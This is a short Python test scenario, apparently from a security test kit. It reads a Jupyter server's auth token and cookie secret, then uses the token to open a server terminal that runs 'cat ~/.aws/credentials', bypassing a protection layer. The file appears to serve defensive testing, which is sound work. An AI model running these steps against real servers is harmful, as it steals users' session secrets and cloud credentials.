"""J3: reads the token and has the server start a shell outside of the protection"""
from kit import *
from web import request, terminal


def shell(w):
    token = json.loads(read(w.server["file"]))["token"]
    return terminal(w.server["port"], token, 'cat ~/.aws/credentials; echo "the end" of it')


def attack(w):
    yield "read the server's file", lambda: read(w.server["file"])
    yield "the cookie secret", lambda: read(os.path.join(os.path.dirname(w.server["file"]), "jupyter_cookie_secret"))
    yield "ask the server", lambda: request(w.server["port"], "GET", "/api")
    yield "a terminal outside of the session", lambda: shell(w)


def twin(w):
    yield "a server of its own", own_server
